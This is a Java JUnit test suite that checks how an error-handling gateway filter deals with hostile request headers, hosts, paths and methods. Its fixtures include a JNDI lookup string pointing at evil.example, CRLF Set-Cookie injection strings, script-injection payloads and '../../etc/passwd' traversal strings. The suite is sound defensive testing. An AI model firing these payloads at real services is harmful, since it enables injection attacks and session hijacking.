package io.github.gatefault.suite;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.github.gatefault.suite.harness.Exchange;
import io.github.gatefault.suite.harness.Facts;
import io.github.gatefault.suite.harness.Site;
import io.github.gatefault.suite.harness.WebApp;
import io.github.gatefault.suite.wire.Answer;
import io.github.gatefault.suite.wire.Connection;
import io.github.gatefault.suite.wire.Field;
import io.github.gatefault.suite.wire.Request;
import jakarta.servlet.AsyncContext;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.ConnectException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a stranger sends: the failing upstream is answered for as ever, and nothing of the stranger's does harm. */
class HostileTest {
    /** Where the page shows the path and the method, which the built-in page does not. */
    private static final String SHOWN = "/shown";

    private static final String HTML = "text/html;charset=utf-8";
    private static final String PROBLEM_JSON = "application/problem+json";
    private static final String BROWSER = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8";
    private static final String SCRIPT = "\"'><script>alert(1)</script>";

    /** Under what each container takes in a head, whose limits begin at 8192 bytes for all of it. */
    private static final int LARGE = 7_500;

    @TempDir
    private static Path templates;

    @RegisterExtension
    static final Site site = Site.of(upstream -> List.of(
            failing(Apps.gated()), failing(Apps.gated(SHOWN, Map.of("templates", templatesThatShowTheRequest())))));

    private static WebApp failing(WebApp app) {
        return app.serve("/down/*", (request, response) -> {
                    throw new ConnectException("Connection refused");
                })
                .serve("/relayed/*", (request, response) -> response.setStatus(503))
                .serve("/later/*", (request, response) -> {
                    AsyncContext async = request.startAsync();
                    async.start(() -> {
                        response.setStatus(504);
                        async.complete();
                    });
                });
    }

    private static String templatesThatShowTheRequest() {
        try {
            Files.writeString(templates.resolve("page.mustache"), """
                    <!DOCTYPE html>
                    <title>{{headline}}</title>
                    <p title="{{path}}">{{path}} {{{path}}}</p>
                    <p title="{{method}}">{{method}} {{{method}}}</p>
                    <p>{{id}}</p>
                    <p>The end</p>
                    """);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return templates.toString();
    }

    private static String utf8(String text) {
        return new String(text.getBytes(UTF_8), ISO_8859_1);
    }

    /** Sends what a container may refuse by itself; returns nothing where it did, with a status that says so. */
    private static Optional<Exchange> sendWhatMayBeRefused(Request request) throws IOException {
        Answer answer;
        try (Connection connection = site.connect()) {
            answer = connection.send(request.bytes()).read(request.method());
        }
        if (answer.headers("Proxy-Status").isEmpty()) {
            assertThat(answer.status())
                    .as("refused by the container: %s", answer)
                    .isIn(400, 404, 414, 431, 501, 505);
            Facts.noIncident(site);
            return Optional.empty();
        }
        return Optional.of(site.keep(request, answer));
    }

    /** Nobody's headers but ours and the container's, no markup, and one plain line in the log. */
    private static void isHarmless(Exchange exchange) {
        Answer answer = exchange.answer();
        String head = answer.head().fields().stream().map(Field::toString).collect(Collectors.joining("\n"));
        assertThat(head).as("%s", exchange).doesNotContainIgnoringCase("evil", "<script", "alert(", "Set-Cookie");
        assertThat(head.replace("\n", "")).as("%s", exchange).matches("[ -~]*");
        assertThat(answer.text()).as("%s", exchange).doesNotContain("<script", "\u001b", "\u0000");
        assertThat(site.incidents()).as("%s", exchange).singleElement().satisfies(incident -> {
            isOneLine(incident.message());
            assertThat(incident.values().values()).allSatisfy(HostileTest::isOneLine);
            assertThat(incident.context().values()).allSatisfy(HostileTest::isOneLine);
        });
    }

    private static void isOneLine(String text) {
        assertThat(text.chars().filter(Character::isISOControl))
                .as("one plain line: %s", text)
                .isEmpty();
        assertThat(text).doesNotContain("\u2028", "\u2029", "\u202e", "\ufeff");
    }

    private static void isOfType(Exchange exchange, String type) {
        assertThat(exchange.answer().header("Content-Type"))
                .get()
                .asString()
                .as("%s", exchange)
                .isEqualToIgnoringCase(type);
    }

    static final List<String> badIds = List.of(
            "",
            " ",
            "two words",
            "x".repeat(129),
            "x".repeat(LARGE),
            "${jndi:ldap://evil.example/a}",
            "%0d%0aSet-Cookie:evil=1",
            "../../etc/passwd",
            "a,b",
            "\"quoted\"",
            "{\"cause\":\"none\"}",
            SCRIPT,
            utf8("Grüße"),
            utf8("\u202eevil"),
            utf8("🙂".repeat(40)),
            "\u00ff\u00fe\u0080");

    @ParameterizedTest
    @FieldSource("badIds")
    void badId_givesWayToANewOne(String id) throws Exception {
        for (String header : List.of("X-Correlation-Id", "X-Request-Id", "traceparent")) {
            Exchange exchange =
                    site.send(Request.get(Apps.GATED + "/down/" + header).with(header, id));
            Facts.answeredByUs(exchange, 502, "connection_refused");
            assertThat(exchange.correlationId())
                    .get()
                    .asString()
                    .as("%s", exchange)
                    .matches("[0-9a-f]{32}");
        }
        assertThat(site.incidents()).hasSize(3).allSatisfy(incident -> {
            isOneLine(incident.message());
            assertThat(incident.values().values()).allSatisfy(HostileTest::isOneLine);
            assertThat(incident.context()).containsEntry("correlation_id", incident.id());
        });
    }

    static final List<String> idsWithRawBytes = List.of(
            "abc\r\nSet-Cookie: evil=1",
            "abc\nSet-Cookie: evil=1",
            "abc\rSet-Cookie: evil=1",
            "abc\r\n Set-Cookie: evil=1",
            "abc\u0000evil",
            "abc\u001b[31mevil",
            "abc\tevil",
            "abc\u007fevil",
            "evil".repeat(2_500));

    @ParameterizedTest
    @FieldSource("idsWithRawBytes")
    void idWithRawBytes_isRefusedOrGivesWay(String id) throws Exception {
        Optional<Exchange> reached = sendWhatMayBeRefused(Request.get(Apps.GATED + "/down/id")
                .with("X-Correlation-Id", id)
                .with("Connection", "close"));
        if (reached.isPresent()) {
            Facts.answeredByUs(reached.get(), 502, "connection_refused");
            assertThat(reached.get().correlationId()).get().asString().matches("abc|[0-9a-f]{32}");
            isHarmless(reached.get());
        }
    }

    /** A second line of the same name is not the first one's affair. */
    @Test
    void twoIds_areAnsweredWithOne() throws Exception {
        Exchange exchange = site.send(Request.get(Apps.GATED + "/down/ids")
                .with("X-Correlation-Id", "first")
                .with("X-Correlation-Id", SCRIPT)
                .with("X-Request-Id", "third"));
        Facts.answeredByUs(exchange, 502, "connection_refused");
        assertThat(exchange.correlationId()).contains("first");
        isHarmless(exchange);
    }

    static Stream<Arguments> accepts() {
        return Stream.of(
                arguments("", PROBLEM_JSON),
                arguments("*/*;q=0", PROBLEM_JSON),
                arguments("text/html;q=0", PROBLEM_JSON),
                arguments("text/html;q=0, */*;q=0", PROBLEM_JSON),
                arguments("text/html;q=nan, application/json;q=-1", PROBLEM_JSON),
                arguments("text/html;q=1e9, text/plain;q=0.1", "text/plain;charset=utf-8"),
                arguments("text/html;q=0.0001", PROBLEM_JSON),
                arguments(";;;,,,;q=,=;/", PROBLEM_JSON),
                arguments("text", PROBLEM_JSON),
                arguments("\"text/html", PROBLEM_JSON),
                arguments("\\\\\"\\", PROBLEM_JSON),
                arguments("text/html" + SCRIPT, PROBLEM_JSON),
                arguments("image/png", PROBLEM_JSON),
                arguments(utf8("tëxt/html, 🙂/*"), PROBLEM_JSON),
                arguments("text/html," + "a/b,".repeat(LARGE / 4 - 5), HTML),
                arguments("a/b,".repeat(LARGE / 4), PROBLEM_JSON),
                arguments("text/html;x=" + "y".repeat(LARGE), PROBLEM_JSON),
                arguments("x".repeat(LARGE), PROBLEM_JSON),
                arguments(",".repeat(LARGE), PROBLEM_JSON),
                arguments("text/html" + ";".repeat(1_000), HTML),
                arguments("application/x+json" + ";q=1".repeat(LARGE / 5), PROBLEM_JSON));
    }

    @ParameterizedTest
    @MethodSource("accepts")
    void hostileAccept_getsTheFormatThatItStillMeans(String accept, String type) throws Exception {
        Exchange exchange = site.send(Request.get(Apps.GATED + "/down/accept").with("Accept", accept));
        Facts.answeredByUs(exchange, 502, "connection_refused");
        isOfType(exchange, type);
        isHarmless(exchange);
    }

    @Test
    void manyLinesOfAccept_areOneList() throws Exception {
        Request request = Request.get(Apps.GATED + "/down/accept");
        for (int i = 0; i < 50; i++) {
            request = request.with("Accept", "image/x" + i);
        }
        Exchange exchange = site.send(request.with("Accept", "text/html"));
        Facts.answeredByUs(exchange, 502, "connection_refused");
        isOfType(exchange, HTML);
        isHarmless(exchange);
    }

    static Stream<Arguments> languages() {
        return Stream.of(
                arguments("", "en"),
                arguments("*;q=0", "en"),
                arguments("de;q=0, fr;q=x", "en"),
                arguments("-----", "en"),
                arguments("de" + SCRIPT, "en"),
                arguments("../../../etc/passwd", "en"),
                arguments("de%0d%0aSet-Cookie:evil=1", "en"),
                arguments(utf8("düütsch, 中文"), "en"),
                arguments("x".repeat(LARGE), "en"),
                arguments("x-".repeat(LARGE / 2), "en"),
                arguments(",".repeat(LARGE), "en"),
                arguments("fr," + "xx,".repeat(LARGE / 3 - 5), "fr"));
    }

    @ParameterizedTest
    @MethodSource("languages")
    void hostileAcceptLanguage_getsALanguageThatIsThere(String languages, String chosen) throws Exception {
        Exchange exchange = site.send(Request.get(Apps.GATED + "/relayed/language")
                .with("Accept", "text/html")
                .with("Accept-Language", languages));
        Facts.answeredByUs(exchange, 503, "upstream_error_response");
        isOfType(exchange, HTML);
        assertThat(exchange.answer().header("Content-Language")).contains(chosen);
        assertThat(exchange.answer().text()).contains("lang=\"" + chosen + "\"");
        isHarmless(exchange);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Accept", "Accept-Language", "Sec-Fetch-Dest", "User-Agent", "Referer", "X-Forwarded-Host"})
    void headerOf8Kilobytes_isRefusedOrAnsweredAsEver(String name) throws Exception {
        Optional<Exchange> reached =
                sendWhatMayBeRefused(Request.get(Apps.GATED + "/later/header").with(name, "evil/" + "x".repeat(8_192)));
        if (reached.isPresent()) {
            Facts.answeredByUs(reached.get(), 504, "upstream_error_response");
            isHarmless(reached.get());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"Sec-Fetch-Dest", "User-Agent", "Referer", "X-Forwarded-Host", "X-Forwarded-For", "Forwarded"})
    void markupInAHeader_isNotShown(String name) throws Exception {
        for (String accept : List.of("text/html", "application/json", "application/xml", "text/plain")) {
            Exchange exchange = site.send(Request.get(Apps.GATED + "/down/header")
                    .with("Accept", accept)
                    .with(name, "evil.example" + SCRIPT));
            Facts.answeredByUs(exchange, 502, "connection_refused");
            assertThat(exchange.answer().text()).doesNotContain("evil", "<script");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"evil.example", "evil.example:1", "EVIL.example", "[::1]"})
    void strangeHost_isNotShown(String host) throws Exception {
        for (String accept : List.of("text/html", "application/json")) {
            Exchange exchange = site.send(
                    Request.get(Apps.GATED + "/down/host").with("Host", host).with("Accept", accept));
            Facts.answeredByUs(exchange, 502, "connection_refused");
            assertThat(exchange.answer().text()).doesNotContainIgnoringCase("evil.example", "[::1]");
            assertThat(exchange.answer().head().fields().toString()).doesNotContainIgnoringCase("evil", "[::1]");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil.example" + SCRIPT,
                "evil.example/path?secret",
                "evil example",
                "a@evil",
                "",
                "evil:99999999",
                "\u00e9vil"
            })
    void hostThatIsNone_isRefusedOrNotShown(String host) throws Exception {
        Optional<Exchange> reached = sendWhatMayBeRefused(
                Request.get(Apps.GATED + "/down/host").with("Host", host).with("Accept", "text/html"));
        if (reached.isPresent()) {
            Facts.answeredByUs(reached.get(), 502, "connection_refused");
            assertThat(reached.get().answer().text()).doesNotContain("evil", "\u00e9vil");
            isHarmless(reached.get());
        }
    }

    /** Session ids travel behind semicolons and secrets behind question marks; both stop at the filter. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/cart;jsessionid=secret",
                "/cart;jsessionid=secret/items;v=secret",
                "/cart?token=secret",
                "/cart?token=secret&x=%0d%0aSet-Cookie:%20evil=secret",
                "/cart;jsessionid=secret?token=secret",
                "/cart?a?secret;b=secret"
            })
    void secretsOfAnAddress_areNeitherShownNorLogged(String path) throws Exception {
        for (String accept : List.of(BROWSER, "application/json", "application/problem+xml", "text/plain")) {
            for (String context : List.of(Apps.GATED, SHOWN)) {
                Exchange exchange =
                        site.send(Request.get(context + "/down" + path).with("Accept", accept));
                Facts.answeredByUs(exchange, 502, "connection_refused");
                String all =
                        exchange.answer().head().fields() + exchange.answer().text() + site.incidents();
                assertThat(all).doesNotContain("secret", "jsessionid", "token");
                if (context.equals(SHOWN) && accept.equals(BROWSER)) {
                    assertThat(exchange.answer().text()).contains("/shown/down/cart", "The end");
                }
            }
        }
        assertThat(site.incidents()).hasSize(8).allSatisfy(incident -> {
            isOneLine(incident.message());
            assertThat(incident.values().get("path")).contains("/down/cart");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/%22onload=%22alert(1)",
                "/'onload='alert(1)",
                "/{{id}}{{{path}}}",
                "/$%7Bjndi:ldap:%2F%2Fevil%7D",
                "/%0d%0aSet-Cookie:%20evil=1",
                "/%0aWARN%20forged%20line",
                "/%1b%5b31mred",
                "/%00",
                "/%e2%80%ae%e2%80%a8",
                "/%c0%af%ff",
                "/<script>alert(1)</script>",
                "/\"><script>alert(1)</script>",
                "/\u001b[31mred",
                "/gr\u00fc\u00dfe",
                "/a\\b",
                "/a|b^c`d"
            })
    void hostilePath_isRefusedOrEscaped(String path) throws Exception {
        for (String accept : List.of("text/html", "application/problem+json")) {
            Optional<Exchange> reached = sendWhatMayBeRefused(Request.get(SHOWN + "/relayed" + path)
                    .with("Accept", accept)
                    .with(
                            "X-Correlation-Id",
                            accept.substring(accept.indexOf('/') + 1).replace('+', '-'))
                    .with("Connection", "close"));
            if (reached.isPresent()) {
                Facts.answeredByUs(reached.get(), 503, "upstream_error_response");
                assertThat(reached.get().answer().text())
                        .doesNotContain("<script", "\"onload", "'onload", "{{", "\u001b", "\u0000")
                        .doesNotContain("\u202e", "\u2028");
                assertThat(reached.get().answer().head().fields().toString()).doesNotContain("evil", "script");
            }
        }
        assertThat(site.incidents()).allSatisfy(incident -> {
            isOneLine(incident.message());
            assertThat(incident.values().values()).allSatisfy(HostileTest::isOneLine);
        });
    }

    /** Of what is legal in an address, nothing is refused by any container: these do reach the page. */
    @ParameterizedTest
    @ValueSource(strings = {"/%3Cscript%3Ealert(1)%3C/script%3E", "/'onload='alert(1)", "/%22%3E%3Cb%3E", "/&amp&lt"})
    void encodedMarkupInAPath_staysEncodedOnThePage(String path) throws Exception {
        Exchange exchange = site.send(Request.get(SHOWN + "/relayed" + path).with("Accept", "text/html"));
        Facts.answeredByUs(exchange, 503, "upstream_error_response");
        assertThat(exchange.answer().text())
                .contains("<p title=\"" + SHOWN + "/relayed/", "The end")
                .doesNotContain("<script", "<b>", "'onload", "/&amp&lt\"");
        assertThat(site.incidents())
                .singleElement()
                .satisfies(incident -> assertThat(incident.values()).containsEntry("path", SHOWN + "/relayed" + path));
        isHarmless(exchange);
    }

    /** A method is a token, in which quotes are legal. */
    @Test
    void hostileMethod_isEscaped() throws Exception {
        Exchange exchange = site.send(Request.of("X'`|&", SHOWN + "/relayed/method")
                .with("Accept", "text/html")
                .with("Connection", "close"));
        Facts.answeredByUs(exchange, 503, "upstream_error_response");
        assertThat(exchange.answer().text()).contains("The end").doesNotContain("X'", "`");
        isHarmless(exchange);
    }

    @Test
    void longPath_isCutInTheLogAndOnThePage() throws Exception {
        Exchange exchange =
                site.send(Request.get(SHOWN + "/relayed/" + "x".repeat(6_000)).with("Accept", "text/html"));
        Facts.answeredByUs(exchange, 503, "upstream_error_response");
        assertThat(exchange.answer().text()).hasSizeLessThan(8_000).contains("The end");
        assertThat(site.incidents())
                .singleElement()
                .satisfies(incident -> assertThat(incident.values().get("path")).hasSize(1_024));
    }
}
